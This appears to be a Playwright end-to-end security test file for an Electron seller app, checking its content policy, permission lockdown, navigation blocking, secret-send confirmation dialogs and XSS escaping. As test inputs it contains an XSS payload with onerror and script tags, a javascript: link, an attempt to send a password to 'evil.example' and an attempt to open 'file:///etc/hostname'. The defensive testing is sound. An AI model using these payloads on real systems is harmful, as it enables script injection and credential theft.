// What the page cannot do, tried in the running app.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import type { Page } from '@playwright/test';
import type { Main } from '../../tools/launch/main-process.ts';
import { freePort } from '../../tools/test/free-port.ts';
import { slow } from '../../tools/test/slow.ts';
import { expect, test } from '../support/app-test.ts';
import { createLink, createProduct, goTo, signIn } from '../support/seller.ts';

test.use({
  needsWholeBrowser: true,
  allowedErrors: [
    /Content Security Policy|violates the following|ERR_BLOCKED_BY|not allowed to load|Unsafe|Blocked opening/i,
  ],
});

type AnyBridge = { invoke(channel: string, input: unknown): Promise<unknown> };

/** Calls the main process as any code in the page could. */
const call = (page: Page, channel: string, input?: unknown) =>
  page.evaluate(([name, given]) => (Reflect.get(window, 'storefront') as AnyBridge).invoke(name, given), [
    channel,
    input,
  ] as const);

/** Tries to run code and to load files that are not the app's. */
const tryForeignCode = async () => {
  const violations = new Set<string>();
  Object.assign(window, { violations });
  document.addEventListener('securitypolicyviolation', (event) => violations.add(event.effectiveDirective));
  const add = (name: string, about: Record<string, string>) =>
    document.body.append(Object.assign(document.createElement(name), about));
  add('script', { textContent: 'window.ranInline = true' });
  add('script', { src: 'https://shop.example/x.js' });
  add('img', { src: 'https://shop.example/x.png' });
  add('iframe', { src: 'https://shop.example/' });
  add('a', { id: 'script-link', href: 'javascript:void(window.ranLink = true)' });
  document.getElementById('script-link')?.click();
  // Delayed, because code run by a debugger may use eval.
  const evaluated = await new Promise<string>((resolve) =>
    setTimeout(() => {
      try {
        // biome-ignore lint/security/noGlobalEval: the policy must stop it
        globalThis.eval('1');
        resolve('ran');
      } catch (error) {
        resolve((error as Error).name);
      }
    }),
  );
  const fetched = await fetch('https://shop.example/').then(
    () => 'reached',
    () => 'refused',
  );
  return { evaluated, fetched, ran: 'ranInline' in window || 'ranLink' in window };
};

const askForPermissions = async () => {
  const answer = (asked: Promise<unknown>) =>
    asked.then(
      () => 'granted',
      () => 'denied',
    );
  return [
    (await navigator.permissions.query({ name: 'geolocation' })).state,
    Notification.permission,
    await Notification.requestPermission(),
    await answer(navigator.mediaDevices.getUserMedia({ video: true })),
    await answer(navigator.clipboard.writeText('https://evil.example/pay')),
    await answer(navigator.clipboard.readText()),
  ];
};

/** Contacts a TURN and a STUN server, and starts a download. */
const tryToReachOut = async ([tcp, udp]: readonly [number, number]) => {
  const connection = new RTCPeerConnection({
    iceServers: [
      { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'x', credential: 'x' },
      { urls: `stun:127.0.0.1:${udp}` },
    ],
  });
  const gathered = new Promise<void>((resolve) => {
    connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
  });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
  await gathered;
  const link = Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'made-by-a-page' });
  document.body.append(link);
  link.click();
};

/** Runs in the main process: keeps what the page tries and the app prevents, and the pages that the window shows. */
function recordTries({ BrowserWindow, session }: Main): void {
  const tries: string[] = [];
  Object.assign(globalThis, { tries });
  const contents = BrowserWindow.getAllWindows()[0]?.webContents;
  contents?.on('will-navigate', (event) => event.defaultPrevented && tries.push(event.url));
  contents?.on('did-navigate', (_event, url) => tries.push(`shows ${url}`));
  session.defaultSession.on('will-download', (event) => event.defaultPrevented && tries.push('a download'));
}

test('the page has only the bridge: no foreign code, no connection, no permission, no download, no other page', async ({
  launchApp,
}) => {
  const contacts = { tcp: 0, udp: 0 };
  const relay = createServer((socket) => {
    contacts.tcp += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  const stun = createSocket('udp4').on('message', () => {
    contacts.udp += 1;
  });
  stun.bind(0, '127.0.0.1');
  await Promise.all([once(relay, 'listening'), once(stun, 'listening')]);
  const app = await launchApp();
  const { page } = app;
  const heading = page.getByRole('heading', { name: 'Sign in to your store' });
  await expect(heading).toBeVisible();
  const address = page.url();
  await app.evaluate(recordTries, undefined);
  const tries = () => app.evaluate(() => Reflect.get(globalThis, 'tries') as string[], undefined);

  await test.step('the page has nothing of Node or Electron', async () => {
    expect(address).toMatch(/^(app:\/\/desk\/|https:\/\/desk\.app\.scheme\.localhost\/)index\.html/);
    const found = await page.evaluate(() => ({
      leaked: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter(
        (name) => name in window,
      ),
      bridge: Object.keys(Reflect.get(window, 'storefront')),
      isFrozen: Object.isFrozen(Reflect.get(window, 'storefront')),
      isSecure: isSecureContext,
    }));
    expect(found).toEqual({ leaked: [], bridge: ['invoke', 'on'], isFrozen: true, isSecure: true });
  });

  await test.step('the policy itself blocks foreign code, before there is a request', async () => {
    expect(await page.evaluate(tryForeignCode)).toEqual({ evaluated: 'EvalError', fetched: 'refused', ran: false });
    const violations = () => page.evaluate(() => [...(Reflect.get(window, 'violations') as Set<string>)].sort());
    await expect.poll(violations).toEqual(['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-elem']);
  });

  await test.step('it gets no permission and no clipboard', async () => {
    expect(await page.evaluate(askForPermissions)).toEqual(Array(6).fill('denied'));
  });

  await test.step('it reaches nobody by WebRTC, and saves no file', async () => {
    await page.evaluate(tryToReachOut, [(relay.address() as AddressInfo).port, stun.address().port] as const);
    expect(await tries()).toEqual([]);
  });

  await test.step('it opens neither a window nor the browser, and stays where it is', async () => {
    expect(await call(page, 'browser.open', { url: 'https://shop.example/help' })).toMatchObject({ ok: false });
    await page.evaluate(() => document.body.insertAdjacentHTML('afterbegin', '<a href="https://a.example/">Away</a>'));
    await page.getByText('Away').click({ modifiers: ['Control'], force: true });
    const last = await page.evaluateHandle(() => {
      for (const url of ['file:///etc/hostname', 'http://shop.example/', 'https://shop.example/help']) window.open(url);
      return window.open('about:blank');
    });
    // Electron opens none; the Chromium host closes them.
    await expect.poll(() => last.evaluate((one) => one === null || one.closed)).toBe(true);
    // From a blank page, which needs no request that could be refused, the app returns.
    for (const [url, last] of [
      ['https://shop.example/', /^https:/],
      ['other.html', /other/],
      ['about:blank', /^shows app:..desk.index/],
    ] as const) {
      await page.evaluate((to) => location.assign(to), url);
      await expect.poll(async () => (await tries()).at(-1)).toMatch(last);
    }
    expect(await tries()).toHaveLength(4);
    await expect(heading).toBeVisible();
    expect(page.url()).toBe(address);
  });

  // Checked last, so that a window or a contact would have begun by now.
  await page.getByRole('button', { name: 'Open the practice store' }).click();
  await expect(page.getByRole('heading', { name: 'Products' })).toBeVisible();
  await expect.poll(() => page.context().pages().length).toBe(1);
  expect(contacts).toEqual({ tcp: 0, udp: 0 });
  expect((await app.outside()).filter(({ kind }) => kind === 'open-external')).toEqual([]);
  relay.close();
  stun.close();
});

test('a system dialog asks before code in the page sends a secret away or shows the saved key', async ({
  launchApp,
  service,
}) => {
  const app = await launchApp();
  const { page } = app;
  await signIn(page, service);

  const key = 'k3y'.repeat(21).concat('0');
  const webhook = { url: 'http://127.0.0.1:9/', isOn: true, key };
  expect(await call(page, 'webhook.save', webhook)).toMatchObject({ ok: true });
  await page.evaluate(() => Object.assign(window, { confirm: () => true, prompt: () => 'yes' }));
  const evil = { serviceAddress: 'https://evil.example', email: 'mara@shop.example', password: key };
  expect(await call(page, 'webhook.revealKey')).toMatchObject({ ok: false });
  expect(await call(page, 'session.signIn', evil)).toMatchObject({ ok: false });
  const asked = (await app.outside()).filter(({ kind }) => kind === 'dialog').map(({ what }) => what);
  // The question names where the password would go.
  expect(asked).toEqual([expect.any(String), expect.stringContaining('evil.example')]);

  await goTo(page, 'Webhook');
  const field = page.getByLabel('Verification key', { exact: true });
  await page.getByRole('button', { name: 'Show key' }).click();
  await expect.poll(async () => (await app.outside()).filter(({ kind }) => kind === 'dialog')).toHaveLength(3);
  await expect(page.getByText(/^Cancelled/)).toBeVisible();
  await expect(field).toHaveValue('');
  await app.answerDialogs({ message: 0 });
  await page.getByRole('button', { name: 'Show key' }).click();
  await expect(field).toHaveValue(key);
});

test('text from outside stays text wherever it is shown', async ({ launchApp, service }) => {
  // The test walks through most screens.
  test.setTimeout(slow(90_000));
  const { page } = await launchApp();
  const hostile = (where: string) =>
    `<img src=x onerror="window.ran='${where}'"><script>window.ran='${where}'</script><b>${where}</b>`;
  await signIn(page, service);
  await createProduct(page, hostile('title'));
  await createLink(page, 'title', '60', hostile('metadata'));
  await expect(page.getByRole('table', { name: 'Payment links' })).toContainText(`order: ${hostile('metadata')}`);
  // What the service says when it refuses a change.
  service.intercept = ({ path }) =>
    path.endsWith('/products') ? { status: 422, body: JSON.stringify({ message: hostile('refusal') }) } : undefined;
  await createProduct(page, 'Refused');
  await goTo(page, 'Sync');
  await page.getByRole('table', { name: 'Waiting changes' }).getByRole('row').filter({ hasText: 'Refused' }).click();
  await expect(page.getByText(hostile('refusal')).first()).toBeVisible();
  // What a stranger sends to the webhook inbox.
  const port = await freePort();
  await goTo(page, 'Webhook');
  const inbox = page.getByRole('region', { name: 'Webhook inbox' });
  await inbox.getByText('For developers').click();
  await inbox.getByRole('textbox', { name: 'Port' }).fill(String(port));
  await inbox.getByRole('button', { name: 'Start inbox' }).click();
  const deliver = () =>
    fetch(`http://127.0.0.1:${port}/after-sell`, { method: 'POST', body: hostile('body') }).then(
      ({ ok }) => ok,
      () => false,
    );
  await expect.poll(deliver).toBe(true);
  await page.getByRole('table', { name: 'Deliveries' }).getByRole('row').nth(1).click();
  await expect(page.getByRole('complementary', { name: 'Delivery', exact: true })).toContainText("window.ran='body'");
  await goTo(page, 'Products');
  await expect(page.getByRole('table', { name: 'Products' })).toContainText(hostile('title'));
  const found = await page.evaluate(() => ({
    ran: Reflect.get(window, 'ran') as unknown,
    made: document.querySelectorAll('img[src="x"], script:not([src])').length,
  }));
  expect(found).toEqual({ ran: undefined, made: 0 });
});
